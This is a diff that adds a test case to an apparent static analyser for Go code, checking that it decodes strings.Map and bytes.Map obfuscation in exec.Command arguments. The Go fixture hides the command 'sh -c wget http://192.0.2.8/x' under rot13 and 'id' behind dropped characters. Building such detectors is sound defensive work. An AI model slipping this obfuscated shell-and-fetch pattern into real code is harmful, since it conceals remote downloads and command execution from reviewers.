@@ -76,6 +76,32 @@ test('concatenation hides /bin/sh; parenthesised and conversions', () => {
   assert.ok(r[0]!.how.includes('concat'));
 });
 
+test('strings.Map and bytes.Map run their mapping function: rot13 literal, package function, dropped runes', () => {
+  const p = body(
+    '"bytes"\n"os/exec"\n"strings"',
+    `func rot(c rune) rune {
+	if c >= 'a' && c <= 'z' {
+		return 'a' + (c-'a'+13)%26
+	}
+	return c
+}
+
+func f() {
+	exec.Command(strings.Map(func(r rune) rune { return 'a' + (r-'a'+13)%26 }, "fu"), "-c", strings.Map(rot, "jtrg uggc://192.0.2.8/k")).Run()
+	exec.Command(string(bytes.Map(func(r rune) rune {
+		if r == '_' {
+			return -1
+		}
+		return r
+	}, []byte("i_d"))))
+}`,
+  );
+  const r = argsOf(p, 'exec.Command');
+  assert.deepEqual(values(r), ['sh -c wget http://192.0.2.8/x']);
+  assert.ok(r[0]!.how.includes('map'), r[0]!.how.join(','));
+  assert.deepEqual(values(argsOf(p, 'exec.Command', 1)), ['id']);
+});
+
 test('char codes: rune literals, string(rune(65)), string([]byte{104,105})', () => {
   const p = body('"fmt"', "func f() { fmt.Println(string(rune(65))+string('b'), string([]byte{104, 105}), string([]rune{0x263a})) }");
   assert.deepEqual(values(argOf(p, 'fmt.Println', 0)), ['Ab']);
